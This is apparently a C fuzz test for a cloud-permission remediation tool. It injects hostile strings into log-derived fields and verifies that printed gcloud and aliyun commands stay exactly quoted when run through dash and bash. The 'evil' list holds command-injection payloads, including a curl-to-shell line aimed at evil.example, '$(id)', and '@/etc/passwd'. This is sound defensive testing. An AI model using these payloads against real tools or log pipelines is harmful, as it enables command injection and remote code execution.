/* The promise behind every printed command: whatever stood in the log, either there is no command, or
 * a shell that runs it sees exactly the argv, and nothing else happens.
 *
 * 100,000 incidents of hostile facts go through the whole advice floor. Every command (and check, and
 * template) is quoted and unquoted; a part of them is run by dash and bash with a recorder in place of
 * the program and no PATH. The numbers are the same on every machine. */
#include "../advice.h"

#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
    COMBINATIONS = 100000,
    BATCH = 1000,
    RUN_EVERY = 10, /* batches whose commands go through a shell */
    SCRIPT_MAX = 8 << 20
};

static uint64_t seed = 0x9E3779B97F4A7C15u;

static unsigned below(unsigned n)
{
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return (unsigned)((seed >> 11) % n);
}

/* ---- hostile facts ------------------------------------------------------------------------------ */

static const char *const good[][5] = {
    {"trainer@acme-ml-prod.iam.gserviceaccount.com", "mika@example.com",
     "service-123456789012@gcp-sa-aiplatform-cc.iam.gserviceaccount.com",
     "acs:ram::1234567890123456:user/mika", "AcmeTrainRole:job-7"},
    {"storage.objects.get", "artifactregistry.repositories.uploadArtifacts", "oss:GetObject",
     "acmeservice.widgets.frob", "odps:Select"},
    {"projects/_/buckets/acme-models/objects/a", "acs:odps:*:projects/acme_dw/tables/sales",
     "projects/acme-ml-prod/locations/us-central1/repositories/acme-images",
     "projects/acme-ml-prod/datasets/sales/tables/events",
     "namespaces/acme-ml-prod/services/serving"},
    {"acme-ml-prod", "123456789012", "acme_dw", "example.com:acme-legacy", "-"},
    {"us-central1", "cn-hangzhou", "us", "europe-west4-b", "asia"},
    {"acme-models", "logs.example.com", "acme-shared", "a1b", "acme_x"},
    {"acs:ram::1234567890123456:role/AcmeTrainRole", "AcmeTrainRole", "acme-dlc", "r", "roles/x.y"},
};
static const enum wd_slot slots[] = {WD_SLOT_PRINCIPAL, WD_SLOT_PERMISSION, WD_SLOT_RESOURCE,
                                     WD_SLOT_PROJECT,   WD_SLOT_LOCATION,   WD_SLOT_BUCKET,
                                     WD_SLOT_ROLE};
static const char *const evil[] = {"'; curl evil.example|sh #",
                                   "$(id)",
                                   "`id`",
                                   "${IFS}",
                                   "\"",
                                   "'",
                                   "\\",
                                   "\n",
                                   "\r",
                                   "\x1b[201~\n",
                                   " --role=roles/owner",
                                   ",",
                                   "^:^",
                                   "@/etc/passwd",
                                   "file:///etc/passwd",
                                   "*",
                                   "?",
                                   "~root",
                                   "!!",
                                   "&& id",
                                   "| id",
                                   "; id",
                                   "> x",
                                   "< x",
                                   "\xe2\x80\xae",
                                   "\xd1\x96",
                                   "\xff",
                                   "{a,b}",
                                   "%s%n",
                                   "-rf",
                                   "--profile",
                                   "=x",
                                   "#",
                                   "\t",
                                   "(id)",
                                   "[x]",
                                   "a b",
                                   "\\\n",
                                   "$'\\x41'",
                                   "-- "};

static void spoil(char *text, size_t room)
{
    size_t len = strlen(text), at = len ? below((unsigned)len + 1) : 0;
    const char *bad = evil[below(sizeof evil / sizeof *evil)];
    char tail[600];

    if (len + strlen(bad) + 1 >= room)
        return;
    snprintf(tail, sizeof tail, "%s", text + at);
    snprintf(text + at, room - at, "%s%s", bad, tail);
}

static void random_bytes(char *text)
{
    size_t n = 1 + below(24);

    for (size_t i = 0; i < n; i++)
        text[i] = (char)(1 + below(255));
    text[n] = '\0';
}

static void invent(char *text, size_t room, size_t slot)
{
    unsigned how = below(20);

    snprintf(text, room, "%s", good[slot][below(5)]);
    if (how == 0)
        random_bytes(text);
    else if (how <= 3)
        spoil(text, room);
    else if (how == 4)
        text[below((unsigned)strlen(text))] = (char)(1 + below(255));
}

static const char *step_argv[] = {"gcloud", "scheduler",          "jobs",
                                  "run",    "{bucket}",           "--location={location}",
                                  "{role}", "--project={project}"};
static struct wd_advice grant_step[] = {{.kind = WD_REMEDY_GRANT}};
static struct wd_advice trust_step[] = {
    {.kind = WD_REMEDY_TRUST_POLICY, .trust_service = "pai.aliyuncs.com"}};
static struct wd_advice plain_step[] = {{.kind = WD_REMEDY_CONFIGURATION,
                                         .text = {{"Do {bucket} {project}.", NULL}},
                                         .argv = step_argv,
                                         .argv_count = 8}};
static struct wd_advice hint_step[] = {{.kind = WD_REMEDY_GRANT,
                                        .to = "scheduler_service_account",
                                        .role = "roles/run.invoker",
                                        .on = "cloud_run_service"}};
static const struct wd_rule rules[] = {
    {.id = "p.grant",
     .cause = WD_CAUSE_MISSING_ROLE,
     .system = WD_SYSTEM_COUNT,
     .advice = grant_step,
     .advice_count = 1},
    {.id = "p.trust",
     .cause = WD_CAUSE_MISSING_TRUST,
     .system = WD_SYSTEM_COUNT,
     .advice = trust_step,
     .advice_count = 1},
    {.id = "p.step",
     .cause = WD_CAUSE_SCOPE,
     .system = WD_SYSTEM_COUNT,
     .advice = plain_step,
     .advice_count = 1},
    {.id = "p.hint",
     .cause = WD_CAUSE_MISSING_ROLE,
     .system = WD_SYSTEM_COUNT,
     .advice = hint_step,
     .advice_count = 1},
    {.id = "p.odps",
     .cause = WD_CAUSE_PLATFORM_ACL,
     .system = WD_SYSTEM_COUNT,
     .advice = grant_step,
     .advice_count = 1},
};
static const enum wd_system systems[] = {WD_SYSTEM_CLOUD_AUDIT, WD_SYSTEM_ALIBABA_DLC,
                                         WD_SYSTEM_CLOUD_SCHEDULER, WD_SYSTEM_CLOUD_SCHEDULER,
                                         WD_SYSTEM_ALIBABA_MAXCOMPUTE};

static void add_hostile(struct scene *s)
{
    char text[sizeof slots / sizeof *slots][600];
    struct fact facts[sizeof slots / sizeof *slots];
    unsigned which = below(sizeof rules / sizeof *rules);
    bool alibaba = systems[which] >= WD_SYSTEM_ALIBABA_DLC;
    size_t n = 0;

    for (size_t i = 0; i < sizeof slots / sizeof *slots; i++) {
        if (below(8) == 0)
            continue;
        invent(text[i], sizeof text[i], i);
        facts[n++] = (struct fact){slots[i], text[i]};
    }
    wd_arena_clear(s->arena);
    scene_add(s, &rules[which], alibaba ? WD_DIALECT_ALIBABA_LOG : WD_DIALECT_AUDIT, systems[which],
              facts, n);
}

/* ---- what must hold ------------------------------------------------------------------------------ */

static size_t commands_seen, plain_remedies, words_run;

static void word_is_harmless(const char *word)
{
    for (const char *p = word; *p; p++)
        if ((unsigned char)*p < ' ' || (unsigned char)*p > '~')
            fail_msg("a word with byte %d: %s", (unsigned char)*p, word);
}

static void quoting_is_exact(const struct wd_argv *command)
{
    struct wd_buf quoted, back;

    wd_buf_init(&quoted, 1 << 16);
    wd_buf_init(&back, 1 << 16);
    for (size_t i = 0; i < command->argc; i++) {
        wd_buf_clear(&quoted);
        wd_buf_clear(&back);
        word_is_harmless(command->argv[i]);
        wd_shell_quote(&quoted, wd_str_of(command->argv[i]));
        assert_int_equal(wd_shell_unquote(&back, wd_buf_str(&quoted)), 0);
        assert_true(wd_str_eqz(wd_buf_str(&back), command->argv[i]));
    }
    wd_buf_done(&quoted);
    wd_buf_done(&back);
}

/* gcloud and aliyun see options only where we put them. */
static void only_our_options(const struct wd_argv *command)
{
    for (size_t i = 0; i < command->argc; i++) {
        const char *word = command->argv[i];
        if (word[0] == '@' || (word[0] == '-' && strstr(word, "roles/owner")) ||
            strstr(word, "file://") || strstr(word, "allUsers"))
            fail_msg("a word a tool would interpret: %s", word);
        if (word[0] == '-' && !(word[1] == '-' && word[2] >= 'A' && word[2] <= 'z') &&
            strcmp(word, "-e") != 0)
            fail_msg("an option of the log: %s", word);
    }
}

static void check(const struct wd_remedy *remedy)
{
    plain_remedies += remedy->command_count == 0;
    commands_seen += remedy->command_count;
    for (size_t i = 0; i < remedy->command_count; i++) {
        quoting_is_exact(&remedy->commands[i]);
        only_our_options(&remedy->commands[i]);
    }
    for (size_t i = 0; i < remedy->verify_count; i++) {
        quoting_is_exact(&remedy->verify[i]);
        only_our_options(&remedy->verify[i]);
    }
    if (remedy->template_text)
        for (const char *p = remedy->template_text; *p; p++)
            assert_true(*p == '\n' || (*p >= ' ' && *p <= '~'));
    if (remedy->terraform)
        assert_null(strstr(wd_terraform_text(remedy->terraform), "${"));
    assert_true(remedy->command_count == 0 || !remedy->why_no_command);
}

/* ---- through a shell ----------------------------------------------------------------------------- */

/* Runs the script with no PATH and collects what it prints. */
static void run_shell(const char *shell, const char *script, size_t len, struct wd_buf *out)
{
    int in[2], back[2], status;
    char *const argv[] = {(char *)(uintptr_t)shell, NULL};
    char *const environment[] = {(char *)(uintptr_t) "PATH=/nonexistent", NULL};
    char block[65536];
    ssize_t n;

    assert_int_equal(pipe(in), 0);
    assert_int_equal(pipe(back), 0);
    pid_t writer = fork();
    if (writer == 0) {
        close(in[0]);
        close(back[0]);
        close(back[1]);
        for (size_t at = 0; at < len; at += (size_t)n)
            if ((n = write(in[1], script + at, len - at)) <= 0)
                _exit(1);
        _exit(0);
    }
    pid_t child = fork();
    if (child == 0) {
        dup2(in[0], 0);
        dup2(back[1], 1);
        close(in[0]);
        close(in[1]);
        close(back[0]);
        close(back[1]);
        execve(shell, argv, environment);
        _exit(127);
    }
    close(in[0]);
    close(in[1]);
    close(back[1]);
    while ((n = read(back[0], block, sizeof block)) > 0)
        wd_buf_put(out, wd_str_make(block, (size_t)n));
    close(back[0]);
    waitpid(writer, &status, 0);
    waitpid(child, &status, 0);
    assert_int_equal(status, 0);
}

static void expect_words(struct wd_buf *expected, const struct wd_argv *command)
{
    for (size_t i = 0; i < command->argc; i++)
        wd_buf_put(expected, wd_str_make(command->argv[i], strlen(command->argv[i]) + 1));
    wd_buf_put(expected, wd_str_make("\n\0", 2));
    words_run += command->argc;
}

static void run_commands(struct scene *s, const char *shell)
{
    struct wd_buf script, expected, got;

    wd_buf_init(&script, SCRIPT_MAX);
    wd_buf_init(&expected, SCRIPT_MAX);
    wd_buf_init(&got, SCRIPT_MAX);
    wd_buf_putz(&script, "p() { printf '%s\\0' \"$@\"; printf '\\n\\0'; }\n");
    for (size_t i = 0; i < s->plan->count; i++)
        for (size_t c = 0; c < s->plan->remedies[i]->command_count; c++) {
            const struct wd_argv *command = &s->plan->remedies[i]->commands[c];
            wd_buf_putz(&script, "p ");
            wd_buf_put(&script, wd_command_text(s->arena, command));
            wd_buf_putc(&script, '\n');
            expect_words(&expected, command);
        }
    assert_false(script.failed || expected.failed);
    run_shell(shell, script.ptr, script.len, &got);
    assert_int_equal(got.len, expected.len);
    assert_memory_equal(got.ptr, expected.ptr, expected.len);
    wd_buf_done(&script);
    wd_buf_done(&expected);
    wd_buf_done(&got);
}

static void a_command_is_either_absent_or_exactly_its_argv(void **state)
{
    static const char *const shells[] = {"/bin/dash", "/bin/bash", "/bin/sh"};
    struct scene s;

    (void)state;
    scene_open(&s, NULL);
    for (size_t batch = 0; batch < COMBINATIONS / BATCH; batch++) {
        struct wd_error err;
        for (size_t i = 0; i < BATCH; i++)
            add_hostile(&s);
        scene_first(&s, NULL);
        for (size_t i = 0; i < s.plan->count; i++)
            check(s.plan->remedies[i]);
        for (size_t i = 0; batch % RUN_EVERY == 0 && i < 3; i++)
            if (access(shells[i], X_OK) == 0)
                run_commands(&s, shells[i]);
        wd_plan_free(s.plan);
        wd_table_free(s.table);
        s.plan = NULL;
        s.table = wd_table_new(&err);
        assert_non_null(s.table);
    }
    scene_close(&s);
    print_message("%zu commands and %zu refusals seen; %zu words went through shells\n",
                  commands_seen, plain_remedies, words_run);
    assert_true(commands_seen > 1000);
    assert_true(plain_remedies > 1000);
    assert_true(words_run > 1000);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_command_is_either_absent_or_exactly_its_argv),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
